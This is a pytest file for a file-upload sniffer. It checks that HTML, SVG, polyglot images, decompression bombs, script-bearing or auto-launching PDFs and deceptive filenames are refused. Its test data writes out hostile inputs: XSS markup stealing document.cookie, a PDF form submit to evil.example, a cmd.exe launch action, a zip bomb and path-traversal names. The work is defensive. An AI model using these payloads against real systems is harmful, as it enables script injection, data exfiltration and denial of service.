"""What a file is, decided from its bytes (records.uploads): the sniffing and the shown name.

The service-level consequences (415, nothing stored) are in test_upload_attacks.py; here each
rule is checked on its own, with real files from real writers (Pillow, reportlab) and PDFs
that PDFium itself reads a script from.
"""

import io
import os
import zlib

import pypdfium2 as pdfium
import pypdfium2.raw as pdfium_c
import pytest
from PIL import Image
from reportlab.lib.utils import ImageReader
from reportlab.pdfgen import canvas

from records.tests import upload_samples as samples
from records.uploads import RefusedType, display_filename, sniff


def sniffed(content: bytes) -> str:
    return sniff(io.BytesIO(content))


def refusal(content: bytes) -> str:
    with pytest.raises(RefusedType) as refused:
        sniffed(content)
    return refused.value.message


def scripts_pdfium_sees(content: bytes) -> int:
    document = pdfium.PdfDocument(content)
    try:
        return pdfium_c.FPDFDoc_GetJavaScriptActionCount(document.raw)
    finally:
        document.close()


class TestWhatIsAccepted:
    def test_a_real_png_jpeg_pdf_and_utf8_text_are_what_they_are(self):
        assert sniffed(samples.png()) == "image/png"
        assert sniffed(samples.jpeg()) == "image/jpeg"
        assert sniffed(samples.lab_report_pdf()) == "application/pdf"
        assert sniffed("Blutdruck 128/82 — gemessen um 8 Uhr.\n".encode()) == "text/plain"

    def test_the_stream_is_rewound_for_whoever_reads_it_next(self):
        stream = io.BytesIO(samples.png())

        sniff(stream)

        assert stream.tell() == 0

    def test_a_pdf_whose_objects_sit_in_a_compressed_object_stream_is_accepted_when_it_has_no_script(self):
        clean = samples.built_pdf(packed={1, 2, 3}, predictor=True)

        assert len(pdfium.PdfDocument(clean)) == 1
        assert sniffed(clean) == "application/pdf"

    def test_a_large_pdf_of_incompressible_images_is_not_refused_by_chance(self):
        # Random bytes, compressed, contain "/JS" followed by a delimiter about once in every
        # few 20 MB: only names in the file's structure and decoded streams count, not pixels.
        out = io.BytesIO()
        pdf = canvas.Canvas(out, pageCompression=1)
        noise = Image.frombytes("RGB", (1600, 1600), os.urandom(1600 * 1600 * 3))
        for _page in range(3):
            pdf.drawImage(ImageReader(noise), 0, 0, 400, 400)
            pdf.showPage()
        pdf.save()

        assert sniffed(out.getvalue()) == "application/pdf"


class TestHtmlAndSvg:
    def test_an_html_page_is_refused_whatever_it_is_called(self):
        assert "HTML" in refusal(b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>")

    @pytest.mark.parametrize(
        "svg",
        [
            b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
            b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
            # A long comment first: libmagic then calls it HTML, still refused.
            b"<!-- " + b"lab results " * 300 + b"-->\n<svg xmlns='http://www.w3.org/2000/svg'/>",
            b"\xef\xbb\xbf<svg:svg xmlns:svg='http://www.w3.org/2000/svg'><svg:script>alert(1)</svg:script></svg:svg>",
        ],
    )
    def test_an_svg_image_is_refused_however_it_starts(self, svg):
        refusal(svg)

    @pytest.mark.parametrize(
        "text",
        [
            b"Dear doctor,\nmy results are below.\n<script>fetch('/api/v1/me')</script>\n",
            b"Notes\n" + b"x" * 70_000 + b"\n<iframe src=//evil.example>\n",
            b"Plain words, then <x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
        ],
    )
    def test_text_with_markup_a_browser_would_run_is_refused(self, text):
        assert "HTML" in refusal(text)

    def test_text_that_merely_mentions_angle_brackets_is_accepted(self):
        assert sniffed(b"Glucose <5.6 mmol/L; HbA1c <42 mmol/mol (target <48); LDL > 3 is high.\n") == "text/plain"


class TestText:
    def test_a_readings_log_with_commas_is_stored_as_plain_text(self):
        # libmagic calls it CSV; it is text all the same, and checked as text.
        assert sniffed(b"date,systolic,diastolic\n2026-03-01,128,82\n2026-03-02,131,85\n") == "text/plain"

    def test_utf16_text_is_refused(self):
        assert "UTF-8" in refusal("Blood pressure 128/82\n".encode("utf-16"))

    def test_text_with_control_characters_is_refused(self):
        assert "control characters" in refusal(b"result \x1b[31mred\x1b[0m, the terminal would say\n")


class TestImages:
    def test_a_png_with_html_appended_after_its_end_is_refused(self):
        polyglot = samples.png() + b"<html><script>alert(document.cookie)</script></html>"

        # Still a PNG to every decoder: only its tail makes it something else.
        Image.open(io.BytesIO(polyglot)).verify()
        assert "appended" in refusal(polyglot)

    def test_a_png_with_anything_after_its_end_chunk_is_refused(self):
        assert "appended" in refusal(samples.png() + b"\0" * 16)

    def test_a_jpeg_carrying_markup_in_a_comment_is_refused(self):
        out = io.BytesIO()
        Image.new("RGB", (16, 16), "navy").save(out, "JPEG", comment=b"<script>alert(1)</script>")

        assert "markup" in refusal(out.getvalue())

    def test_a_truncated_jpeg_is_refused(self):
        whole = samples.jpeg(size=(400, 300))

        assert "damaged" in refusal(whole[: len(whole) // 2])

    def test_garbage_behind_a_jpeg_header_is_refused(self):
        assert "damaged" in refusal(b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01" + b"not an image " * 50)

    def test_a_truncated_png_is_refused(self):
        whole = samples.png(size=(200, 200))

        assert "damaged" in refusal(whole[: len(whole) - 20])

    def test_a_decompression_bomb_is_refused_before_it_is_decoded(self):
        # 30,000 x 30,000 pixels of one colour: a few kilobytes that would take 2.7 GB to open.
        width = height = 30_000
        raw = zlib.compress(b"\0" * (1 + width) * 64, 9)  # the first rows only: enough to sniff
        chunk = lambda kind, data: (  # noqa: E731
            len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")
        )
        bomb = (
            b"\x89PNG\r\n\x1a\n"
            + chunk(b"IHDR", width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes([8, 0, 0, 0, 0]))
            + chunk(b"IDAT", raw)
            + chunk(b"IEND", b"")
        )

        assert "too large" in refusal(bomb)


class TestPdfScripts:
    def test_a_pdf_with_an_open_script_is_refused(self):
        pdf = samples.script_in_names()

        assert scripts_pdfium_sees(pdf) == 1
        assert "scripts" in refusal(pdf)

    def test_a_script_spelled_with_escaped_letters_is_refused(self):
        pdf = samples.built_pdf({4: b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"}, catalog=b"/OpenAction 4 0 R")

        assert b"/JavaScript" not in pdf
        assert "scripts" in refusal(pdf)

    def test_a_script_hidden_in_a_compressed_object_stream_is_refused(self):
        pdf = samples.script_in_names(packed=True)

        assert b"JavaScript" not in pdf
        assert scripts_pdfium_sees(pdf) == 1
        assert "scripts" in refusal(pdf)

    def test_a_script_in_an_object_stream_behind_a_png_predictor_is_refused(self):
        pdf = samples.script_in_names(packed=True, predictor=True)

        assert scripts_pdfium_sees(pdf) == 1
        assert "scripts" in refusal(pdf)

    @pytest.mark.parametrize(
        "action",
        [
            b"<< /S /Launch /F (C:\\\\Windows\\\\System32\\\\cmd.exe) >>",
            b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >>",
        ],
    )
    def test_a_pdf_that_launches_a_program_or_submits_a_form_on_open_is_refused(self, action):
        assert "automatic actions" in refusal(samples.built_pdf({4: action}, catalog=b"/OpenAction 4 0 R"))

    def test_a_pdf_with_an_attached_file_is_refused(self):
        attachment = b"<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\x90\x00\nendstream"
        pdf = samples.built_pdf(
            {
                4: attachment,
                5: b"<< /Type /Filespec /F (update.exe) /EF << /F 4 0 R >> >>",
                6: b"<< /EmbeddedFiles << /Names [(update.exe) 5 0 R] >> >>",
            },
            catalog=b"/Names 6 0 R",
        )

        assert "attached files" in refusal(pdf)

    def test_an_encrypted_pdf_is_refused_because_it_cannot_be_checked(self):
        encrypted = samples.built_pdf(
            {4: b"<< /Filter /Standard /V 2 /R 3 /Length 128 /P -3904 /O <00> /U <00> >>"},
            catalog=b"",
        ).replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt 4 0 R")

        assert "encrypted" in refusal(encrypted)

    def test_a_stream_in_an_encoding_that_is_not_decoded_here_is_refused(self):
        lzw = samples.built_pdf({4: b"<< /Filter /LZWDecode /Length 3 >>\nstream\n\x80\x0b\x60\nendstream"})

        assert "cannot be checked" in refusal(lzw)

    def test_a_pdf_that_inflates_past_the_budget_is_refused(self, monkeypatch):
        # A zlib bomb: 20 MB of zeros compress to 20 kB. The budget is lowered so that the test
        # does not spend a quarter of a gigabyte proving it.
        monkeypatch.setattr("records.uploads.PDF_INFLATE_BUDGET", 8 * 1024 * 1024)
        zeros = zlib.compress(b"\0" * 20 * 1024 * 1024, 9)
        bomb = samples.built_pdf(
            {4: b"<< /Filter /FlateDecode /Length %d >>\nstream\n" % len(zeros) + zeros + b"\nendstream"}
        )

        assert "decompressed" in refusal(bomb)

    def test_a_script_compressed_after_the_word_endstream_inside_a_stream_is_still_found(self):
        # The deflate data holds the bytes "endstream" (a stored block) before the compressed
        # script: a reader follows /Length past them, and so does the check.
        script = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
        stored = zlib.compressobj(0, wbits=-15)
        packed = zlib.compressobj(9, wbits=-15)
        deflated = (
            stored.compress(b" endstream\n")
            + stored.flush(zlib.Z_SYNC_FLUSH)
            + packed.compress(script)
            + packed.flush()
        )
        data = b"\x78\x9c" + deflated + zlib.adler32(b" endstream\n" + script).to_bytes(4, "big")
        assert zlib.decompress(data).endswith(script)
        assert b"JavaScript" not in data
        pdf = samples.built_pdf(
            {4: b"<< /Filter /FlateDecode /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"}
        )

        assert "scripts" in refusal(pdf)


class TestShownFilename:
    @pytest.mark.parametrize(
        ("given", "content_type", "shown"),
        [
            ("../../etc/passwd.pdf", "application/pdf", "passwd.pdf"),
            ("..\\..\\windows\\x.txt", "text/plain", "x.txt"),
            ("C:\\Users\\pat\\Desktop\\scan 01.jpeg", "image/jpeg", "scan 01.jpg"),
            ("report\x00.pdf.html", "application/pdf", "report_.pdf.pdf"),
            ("invoice.exe", "application/pdf", "invoice.pdf"),
            ("photo.png", "image/jpeg", "photo.jpg"),
            ("..", "application/pdf", "document.pdf"),
            ("", "text/plain", "document.txt"),
            (".htaccess", "text/plain", "htaccess.txt"),
            # Fullwidth solidus and full stop turn into "/" and "." under NFKC: still no path.
            ("..\uff0f..\uff0fetc\uff0fpasswd.pdf", "application/pdf", "passwd.pdf"),
            # Right-to-left override: "harmless‮fdp.exe" would display as "harmlessexe.pdf".
            ("harmless\u202efdp.exe", "application/pdf", "harmless_fdp.pdf"),
            ('quote"semicolon;.pdf', "application/pdf", "quote_semicolon.pdf"),
            ("Befund Müller.pdf", "application/pdf", "Befund Müller.pdf"),
        ],
    )
    def test_the_shown_name_keeps_no_path_no_control_and_the_real_extension(self, given, content_type, shown):
        assert display_filename(given, content_type) == shown

    def test_a_very_long_name_is_cut(self):
        assert len(display_filename("a" * 500 + ".pdf", "application/pdf")) == 104
